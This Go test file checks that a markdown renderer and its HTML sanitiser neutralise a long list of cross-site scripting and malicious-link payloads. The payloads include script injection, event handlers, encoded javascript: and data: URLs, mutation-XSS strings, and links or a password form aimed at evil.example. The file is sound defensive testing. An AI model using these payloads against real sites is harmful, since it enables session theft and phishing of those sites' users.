package markdown

import (
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// mayHave is what the HTML of a post may consist of, said a second time and by hand: element → attributes.
var mayHave = map[string][]string{
	"p": {"lang"}, "br": {}, "hr": {}, "h3": {"id", "lang"}, "h4": {"id", "lang"}, "h5": {"id", "lang"}, "h6": {"id", "lang"},
	"strong": {}, "em": {}, "del": {}, "blockquote": {}, "ul": {}, "ol": {"start"}, "li": {"id", "lang"}, "pre": {},
	"code": {"class"}, "table": {}, "thead": {}, "tbody": {}, "tr": {}, "th": {"class", "lang"}, "td": {"class", "lang"},
	"sup": {"id"}, "div": {"class", "role", "tabindex"}, "a": {"href", "rel", "class", "role"},
}

var plainValue = regexp.MustCompile(`^[\p{L}\p{N}:_+# -]*$`)

// unsafe parses HTML as a browser does and returns what must not be in it.
func unsafe(source, prefix string) error {
	body := &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := html.ParseFragment(strings.NewReader(source), body)
	if err != nil {
		return fmt.Errorf("does not parse: %w", err)
	}
	if !utf8.ValidString(source) {
		return fmt.Errorf("is no UTF-8")
	}
	ids := map[string]bool{}
	var walk func(n *html.Node) error
	walk = func(n *html.Node) error {
		switch n.Type {
		case html.TextNode:
		case html.ElementNode:
			if err := unsafeElement(n, prefix, ids); err != nil {
				return err
			}
		default:
			return fmt.Errorf("a node of type %d: %q", n.Type, n.Data)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			if err := walk(c); err != nil {
				return err
			}
		}
		return nil
	}
	for _, n := range nodes {
		if err := walk(n); err != nil {
			return err
		}
	}
	return nil
}

func unsafeElement(n *html.Node, prefix string, ids map[string]bool) error {
	attributes, ok := mayHave[n.Data]
	if !ok {
		return fmt.Errorf("an element <%s>", n.Data)
	}
	external := false
	for _, a := range n.Attr {
		if !slices.Contains(attributes, a.Key) || a.Namespace != "" {
			return fmt.Errorf("<%s> has an attribute %s=%q", n.Data, a.Key, a.Val)
		}
		switch a.Key {
		case "id":
			if !strings.HasPrefix(a.Val, prefix) || !plainValue.MatchString(a.Val) {
				return fmt.Errorf("<%s> has the id %q", n.Data, a.Val)
			}
			if ids[a.Val] {
				return fmt.Errorf("two elements have the id %q", a.Val)
			}
			ids[a.Val] = true
		case "href":
			external = !strings.HasPrefix(a.Val, "#")
			if err := unsafeAddress(a.Val, prefix); err != nil {
				return err
			}
		default:
			if !plainValue.MatchString(a.Val) {
				return fmt.Errorf("<%s> has %s=%q", n.Data, a.Key, a.Val)
			}
		}
	}
	if external && !slices.Contains(n.Attr, html.Attribute{Key: "rel", Val: "nofollow ugc noopener"}) {
		return fmt.Errorf("a link without rel: %v", n.Attr)
	}
	return nil
}

func unsafeAddress(href, prefix string) error {
	if strings.HasPrefix(href, "#") {
		if !strings.HasPrefix(href, "#"+prefix) {
			return fmt.Errorf("a link into the page: %q", href)
		}
		return nil
	}
	for _, r := range href {
		if r <= ' ' || r >= 0x7F || r == '\\' {
			return fmt.Errorf("a character %U in the address %q", r, href)
		}
	}
	u, err := url.Parse(href)
	if err != nil {
		return fmt.Errorf("the address %q: %w", href, err)
	}
	if u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto" || u.User != nil || u.Scheme != "mailto" && u.Host == "" {
		return fmt.Errorf("the address %q", href)
	}
	return nil
}

// attacks are sources that must come out as harmless text or lose what is dangerous; none may keep a live link, a
// tag of its own or an attribute.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt src=//evil.example></sCrIpT>`,
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)><animate onbegin=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<style>@import '//evil.example'</style>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<!-- --><script>alert(1)</script><!-- -->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?php echo 1 ?>`,
	`<div style="position:fixed;inset:0" onclick=alert(1)>`,
	`<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">`,
	`<form action=//evil.example><input name=password></form>`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x](javascript&#58;alert(1))`,
	`[x](javascript&#x3a;alert(1))`,
	`[x](&#106;&#97;vascript:alert(1))`,
	`[x](&Tab;javascript:alert(1))`,
	`[x](java&NewLine;script:alert(1))`,
	`[x](java&#9;script:alert(1))`,
	"[x](<java\tscript:alert(1)>)",
	"[x](<\x01javascript:alert(1)>)",
	"[x](<javascript\x00:alert(1)>)",
	`[x](< javascript:alert(1)>)`,
	`[x](javascript\:alert(1))`,
	`[x](java%0ascript:alert(1))`,
	`[x](javascript://a.example/%0aalert(1))`,
	`[x](data://a.example/text/html,x)`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x](data:image/svg+xml,<svg onload=alert(1)>)`,
	`[x](vbscript:msgbox(1))`,
	`[x](file:///etc/passwd)`,
	`[x](blob:https://a.example/1)`,
	`[x](ftp://a.example/)`,
	`[x](tel:+15550100)`,
	`[x](weixin://dl/chat)`,
	`[x](//evil.example)`,
	`[x](/logout)`,
	`[x](\\evil.example)`,
	`[x](https:evil.example)`,
	`[x](https:/\evil.example)`,
	`[x](https://)`,
	`[x](https://bank.example@evil.example/)`,
	`[x](https://bank.example:pw@evil.example/)`,
	`[x](https://bank.example&#64;evil.example/)`,
	`[x](mailto:a)`,
	`[x](mailto:a%0d%0aBcc:b@c.example)`,
	`[x](?q=1)`,
	`[x]()`,
	`[x](#)`,
	`<javascript:alert(1)>`,
	`<data:text/html,x>`,
	`<https://bank.example@evil.example/>`,
	"[x]\n\n[x]: javascript:alert(1)",
	"[x][y]\n\n[y]: <javascript&colon;alert(1)> 'title'",
	`![x](javascript:alert(1))`,
	`![x](data:image/png;base64,AAAA)`,
	`![x" onerror="alert(1)](x)`,
	"```\" onmouseover=alert(1) x=\"\n```",
	"```<script>\n</script>\n```",
	"# x {#id onclick=alert(1)}",
	"# x {onclick=alert(1)}",
	`| <script> | x |` + "\n|-|-|\n| <img src=x onerror=alert(1)> | `</code><script>` |",
	`[^x"onclick="a]` + "\n\n[^x\"onclick=\"a]: y",
	"[^1](javascript:alert(1))\n\n[^1]: <script>alert(1)</script>",
	"`<script>alert(1)</script>`",
	"    <script>alert(1)</script>",
	"**<b onclick=alert(1)>**",
	"<a\nhref=javascript:alert(1)>",
	"</p></div></main><script>alert(1)</script>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&#60;script&#62;alert(1)&#60;/script&#62;",
	"\\<script>alert(1)\\</script>",
	"\xff<script>\xfealert(1)</script>",
	"<<script>script>alert(1)<</script>/script>",
	"[<script>alert(1)</script>](#<script>)",
	"[a](https://a.example/\"onmouseover=\"alert(1))",
	"https://a.example/\"onmouseover=\"alert(1)",
	"https://a.example/<script>alert(1)</script>",
	"[![x](https://a.example/i.png)](javascript:alert(1))",
}

// harmless are the attacks above that rightly keep a link, to where their author could have linked anyway.
var harmless = regexp.MustCompile(`\[\^|\(#<script>|(^|\()https://a\.example/`)

func TestNoAttackLeavesThePost(t *testing.T) {
	t.Parallel()
	if len(attacks) < 40 {
		t.Fatalf("only %d attacks", len(attacks))
	}
	for _, source := range attacks {
		for _, opt := range []Options{{IDPrefix: "p-"}, {IDPrefix: "p-", Lang: "zh-Hans", LineBreaks: true}} {
			got, err := Render(source, opt)
			if err != nil {
				t.Errorf("%q: %v", source, err)
				continue
			}
			if err := unsafe(got, "p-"); err != nil {
				t.Errorf("%q became %q with %v", source, got, err)
			}
			if !harmless.MatchString(source) && strings.Contains(got, "<a") {
				t.Errorf("%q became a link: %q", source, got)
			}
			if strings.TrimSpace(got) == "" {
				t.Errorf("%q became nothing: its readers see an empty post", source)
			}
		}
	}
}

// The policy stands behind parsers that let no tag through, so it is shown the attacks as HTML.
func TestThePolicyAloneHoldsTheAttacksBack(t *testing.T) {
	t.Parallel()
	for _, source := range attacks {
		if got := allowed().Sanitize(source); unsafe(strings.ToValidUTF8(got, ""), "") != nil {
			t.Errorf("%q becomes %q: %v", source, got, unsafe(got, ""))
		}
	}
}

func FuzzRender(f *testing.F) {
	for _, source := range attacks {
		f.Add(source, false)
	}
	f.Add(article, true)
	for _, source := range bombs() {
		f.Add(source[:min(len(source), 300)], true)
	}
	f.Fuzz(func(t *testing.T, source string, lineBreaks bool) {
		late := time.AfterFunc(patience, func() { panic("still rendering: " + source) })
		defer late.Stop()
		got, err := Render(source, Options{IDPrefix: "p-", Lang: "en", LineBreaks: lineBreaks})
		if err != nil {
			if len(source) > MaxSource {
				return
			}
			t.Fatal(err)
		}
		if err := unsafe(got, "p-"); err != nil {
			t.Fatalf("%q became %q with %v", source, got, err)
		}
		if again := allowed().Sanitize(got); again != got {
			t.Fatalf("%q: the policy changes its own output %q to %q", source, got, again)
		}
		for _, n := range []int{0, 1, 7, 200} {
			if p := Plain(source, n); utf8.RuneCountInString(p) > n || strings.ContainsAny(p, "\n\r\t") {
				t.Fatalf("Plain(%q, %d) = %q", source, n, p)
			}
			if p := FirstLine(source, n); utf8.RuneCountInString(p) > n || strings.ContainsAny(p, "\n\r\t") {
				t.Fatalf("FirstLine(%q, %d) = %q", source, n, p)
			}
		}
	})
}
